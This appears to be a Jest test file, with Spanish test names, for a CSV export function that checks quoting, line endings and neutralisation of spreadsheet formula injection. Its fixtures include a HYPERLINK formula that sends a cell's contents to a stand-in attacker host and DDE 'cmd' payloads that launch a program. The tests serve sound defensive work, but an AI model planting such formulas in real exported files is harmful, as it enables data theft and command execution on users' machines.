import { toCsv } from '../csv';

const body = (csv: string) => csv.replace(/^\uFEFF/, '');

describe('toCsv: CSV que una hoja de cálculo abre sin ejecutar nada', () => {
  it('empieza con la marca de orden de bytes UTF-8 y termina cada renglón con CRLF', () => {
    const csv = toCsv([
      ['título', 'año'],
      ['Informe de gestión', 2026],
    ]);
    expect(csv.startsWith('\uFEFF')).toBe(true);
    expect(body(csv)).toBe('título,año\r\nInforme de gestión,2026\r\n');
  });

  it('entrecomilla comas, comillas y saltos de línea como pide RFC 4180', () => {
    const csv = toCsv([['a, b', 'dijo "sí"', 'línea 1\nlínea 2', 'con\r\nCRLF']]);
    expect(body(csv)).toBe('"a, b","dijo ""sí""","línea 1\nlínea 2","con\r\nCRLF"\r\n');
  });

  it('deja vacías las celdas nulas o indefinidas', () => {
    expect(body(toCsv([['a', null, undefined, '']]))).toBe('a,,,\r\n');
  });

  it.each([
    [
      '=HYPERLINK("http://ataque.example/?x="&A1,"clic")',
      `"'=HYPERLINK(""http://ataque.example/?x=""&A1,""clic"")"`,
    ],
    ["+cmd|' /C calc'!A0", `'+cmd|' /C calc'!A0`],
    ['-2+3+cmd|x', `'-2+3+cmd|x`],
    ['@SUM(1+1)*cmd|x', `'@SUM(1+1)*cmd|x`],
    ['\t=1+1', `'\t=1+1`],
    ['\r=1+1', `"'\r=1+1"`],
  ])('antepone un apóstrofo al texto que empieza como fórmula: %j', (text, expected) => {
    expect(body(toCsv([[text]]))).toBe(`${expected}\r\n`);
  });

  it('no toca los números, ni los negativos, ni el texto que solo contiene los signos', () => {
    expect(body(toCsv([[-5, 3.5, 0, 'a=b', 'correo@example.mx', 'x-y']]))).toBe(
      '-5,3.5,0,a=b,correo@example.mx,x-y\r\n'
    );
  });
});
